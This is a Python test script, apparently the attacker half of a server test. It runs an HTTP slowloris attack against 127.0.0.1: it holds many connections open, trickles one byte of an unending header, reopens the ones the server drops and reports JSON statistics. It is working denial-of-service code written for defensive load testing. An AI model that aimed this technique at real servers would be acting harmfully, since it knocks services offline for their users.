#!/usr/bin/env python3
"""The attacker of test_attack_loris.sh: HTTP slowloris against a loopback port.

attack_loris.py PORT COUNT SECONDS EVERY READYFILE SOURCE...

COUNT connections to 127.0.0.1:PORT, spread over the SOURCE addresses (127.x.y.z, one
after the other), each sending the start of a request head at once ("GET /1k HTTP/1.1"),
then one byte of a header line every EVERY seconds, never the blank line that ends the
head. Each connection the server closes is opened again (at most 500 a second, at most
2 * COUNT opens in all), so the server meets COUNT of them until the opens run out. All
stops after SECONDS; READYFILE is written once the first COUNT were tried.
At the end one JSON line: what was opened, closed by the server (and of those, how many
were answered 503), the most held at once, each closed connection's seconds from connect
to the server's close, and the age of the oldest still open.
"""
import json
import socket
import sys
import time

from held_conns import hold

port, count, secs, every, ready = (int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]),
                                   float(sys.argv[4]), sys.argv[5])
sources = sys.argv[6:] or ["127.0.0.1"]
START = b"GET /1k HTTP/1.1\r\nHost: x\r\n"
TRICKLE = b"X-Pad: " + b"a" * 4096
t0 = time.monotonic()
end = t0 + secs
max_opens = 2 * count
conns = {}  # fd -> [sock, connected at, bytes of TRICKLE sent]
stats = {"opened": 0, "failed": 0, "closed_by_server": 0, "answered_503": 0, "max_held": 0,
         "lifetimes_s": []}


def open_one(i):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((sources[i % len(sources)], 0))
        s.settimeout(2)
        s.connect(("127.0.0.1", port))
        s.setblocking(False)
        s.send(START)
    except OSError:
        stats["failed"] += 1
        s.close()
        return
    stats["opened"] += 1
    conns[s.fileno()] = [s, time.monotonic(), 0]


for i in range(count):
    open_one(i)
with open(ready, "w") as f:
    f.write("%d\n" % len(conns))
next_byte = time.monotonic() + every
budget_t, budget = time.monotonic(), 0


def on_data(c, data):
    if data.startswith(b"HTTP/1.1 503"):
        stats["answered_503"] += 1  # the close follows


def on_close(c):
    stats["lifetimes_s"].append(round(time.monotonic() - c[1], 2))


def tick(now):
    """A byte of a header line every EVERY seconds; the closed ones opened again."""
    global next_byte, budget_t, budget
    if now >= next_byte:
        next_byte += every
        for c in conns.values():
            try:
                c[0].send(TRICKLE[c[2]:c[2] + 1])
                c[2] += 1
            except OSError:
                pass
    if now - budget_t >= 1:
        budget_t, budget = now, 0
    while len(conns) < count and stats["opened"] + stats["failed"] < max_opens and budget < 500:
        budget += 1
        open_one(stats["opened"] + stats["failed"])


hold(conns, stats, end, on_data, on_close, tick)
now = time.monotonic()
stats["held_at_end"] = len(conns)
stats["oldest_open_s"] = round(max((now - c[1] for c in conns.values()), default=0), 2)
for c in conns.values():
    c[0].close()
stats["lifetimes_s"].sort()
print(json.dumps(stats), flush=True)
